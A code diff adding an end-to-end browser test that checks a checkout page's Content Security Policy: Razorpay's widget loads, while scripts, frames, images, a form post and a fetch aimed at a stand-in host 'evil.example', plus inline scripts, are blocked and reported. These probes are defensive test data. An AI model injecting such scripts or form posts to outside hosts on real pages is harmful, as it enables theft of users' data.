@@ -7,7 +7,9 @@ import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { demoKeys } from '@suvarna/deploy/sandboxes/demo-accounts.ts'
 import { createRazorpaySandbox, type RazorpaySandbox } from '@suvarna/deploy/sandboxes/razorpay/sandbox.ts'
-import type { Browser, Page } from 'playwright-core'
+import { listeningLogger, testGateway } from '@suvarna/gateway/gateway.testing.ts'
+import { razorpayOrigins } from '@suvarna/gateway/headers.ts'
+import type { Browser, BrowserContext, Page } from 'playwright-core'
 import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest'
 import { openBrowser } from '../browser.ts'
 
@@ -157,4 +159,119 @@ test('a wrong key, an unknown order and one that is paid offer nothing to pay', 
     await widget.getByRole('alert').getByText(words).waitFor()
     expect(await widget.getByRole('button').count()).toBe(1)
   }
+})
+
+type Violation = { effectiveDirective: string; blockedURL: string; documentURL: string }
+
+/** What the page asks others for, answered by us, and what its policy kept it from. */
+async function watched(context: BrowserContext) {
+  const asked: string[] = []
+  const violations: Violation[] = []
+  const answers: Record<string, [string, string]> = {
+    'https://checkout.razorpay.com/v1/checkout.js': ['text/javascript', providersScript],
+    'https://api.razorpay.com/v1/checkout/public': ['text/html', '<p>Pay here</p>'],
+  }
+  await context.route(
+    (url) => url.protocol === 'https:',
+    (route) => {
+      const url = route.request().url()
+      asked.push(url)
+      const [contentType, body] = answers[url] ?? ['text/plain', '']
+      return route.fulfill({ contentType, body, headers: { 'access-control-allow-origin': '*' } })
+    },
+  )
+  await context.exposeFunction('violated', (violation: Violation) => void violations.push(violation))
+  await context.addInitScript(() =>
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, documentURI }) =>
+      (window as unknown as { violated(violation: object): void }).violated({
+        ...{ effectiveDirective, blockedURL: blockedURI, documentURL: documentURI },
+      }),
+    ),
+  )
+  return { asked, violations }
+}
+
+/** What Razorpay's own widget does on a page: a frame with a style of its own, a note to its log, a picture. */
+const providersScript = `
+const frame = document.createElement('iframe')
+frame.src = 'https://api.razorpay.com/v1/checkout/public'
+frame.setAttribute('style', 'position: fixed')
+document.body.append(frame)
+fetch('https://lumberjack.razorpay.com/v1/track', { method: 'POST', body: '{}' })
+new Image().src = 'https://cdn.razorpay.com/logo.svg'`
+
+test('S-84: the policy lets Razorpay’s widget work; an inline script, and whatever goes to another host, is kept off and reported', async () => {
+  const { logger, told } = listeningLogger()
+  const gateway = await testGateway({ payment: razorpayOrigins, logger })
+  onTestFinished(() => gateway.stop())
+  const context = await browser.newContext()
+  onTestFinished(() => context.close())
+  const { asked, violations } = await watched(context)
+  const page = await context.newPage()
+  const answered = await page.goto(`${gateway.url}/checkout`)
+  const load = (tag: string, address: string) =>
+    page.evaluate(([name, src]) => document.body.append(Object.assign(document.createElement(name), { src })), [
+      tag,
+      address,
+    ] as const)
+
+  await load('script', 'https://checkout.razorpay.com/v1/checkout.js')
+  await page.frameLocator('iframe').getByText('Pay here').waitFor()
+  await expect
+    .poll(() => asked.toSorted())
+    .toEqual([
+      'https://api.razorpay.com/v1/checkout/public',
+      'https://cdn.razorpay.com/logo.svg',
+      'https://checkout.razorpay.com/v1/checkout.js',
+      'https://lumberjack.razorpay.com/v1/track',
+    ])
+  expect(violations).toEqual([])
+
+  for (const tag of ['script', 'iframe', 'img']) await load(tag, `https://evil.example/${tag}`)
+  const ran = await page.evaluate(async () => {
+    const window = globalThis as unknown as { ran?: string[] }
+    window.ran = []
+    const script = document.createElement('script')
+    script.textContent = 'window.ran.push("inline")'
+    const button = document.createElement('button')
+    button.setAttribute('onclick', 'window.ran.push("attribute")')
+    const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/form' })
+    document.body.append(script, button, form)
+    button.click()
+    form.submit()
+    await fetch('https://evil.example/fetch', { mode: 'no-cors' }).catch(() => {})
+    return window.ran
+  })
+  expect(ran).toEqual([])
+  await expect
+    .poll(() =>
+      violations
+        .map((one) => `${one.effectiveDirective} ${URL.parse(one.blockedURL)?.origin ?? one.blockedURL}`)
+        .sort(),
+    )
+    .toEqual([
+      'connect-src https://evil.example',
+      'form-action https://evil.example',
+      'frame-src https://evil.example',
+      'img-src https://evil.example',
+      'script-src-attr inline',
+      'script-src-elem https://evil.example',
+      'script-src-elem inline',
+    ])
+  expect(asked.filter((url) => url.includes('evil'))).toEqual([])
+
+  // A browser reports over https alone: what it would send goes the way that the page names.
+  const headers = await answered?.allHeaders()
+  expect(headers?.['content-security-policy']).toMatch(/; report-to csp$/)
+  expect(headers?.['reporting-endpoints']).toBe('csp="/csp-reports"')
+  const body = JSON.stringify(violations.map((violation) => ({ type: 'csp-violation', body: violation })))
+  const type = { 'content-type': 'application/reports+json' }
+  const answer = await fetch(`${gateway.url}/csp-reports`, { method: 'POST', headers: type, body })
+  expect(answer.status).toBe(204)
+  expect(told.map(({ event, directive, blocked, page }) => [event, directive, blocked, page])).toContainEqual([
+    'csp_violation',
+    'connect-src',
+    'https://evil.example',
+    '/checkout',
+  ])
 })
